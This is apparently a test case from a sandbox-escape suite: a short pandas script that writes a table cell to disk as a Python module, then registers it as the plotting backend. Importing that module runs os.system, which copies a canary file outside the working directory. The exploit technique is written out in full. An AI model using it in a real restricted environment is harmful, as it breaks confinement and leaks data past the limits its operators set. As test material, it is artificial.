# class: file_writer
# technique: [DataFrame.agg][0](**{'func': 'to_string', ...}) writes a one-cell table as a Python module into the working directory; the options value then imports it as the plotting backend
# goal: exec
import pandas as pd

source = "import os; os.system('cat {{CANARY_FILE}} > {{OUTSIDE_DIR}}/anyplot-escape-backend'); plot = print"
module = pd.DataFrame({"src": [source]})
[module.agg][0](**{"func": "to_string", "buf": "anyplot_escape_backend.py", "header": False, "index": False})
opts = pd.options
opts.plotting.backend = "anyplot_escape_backend"
df = pd.DataFrame({"backend": ["anyplot_escape_backend"]})
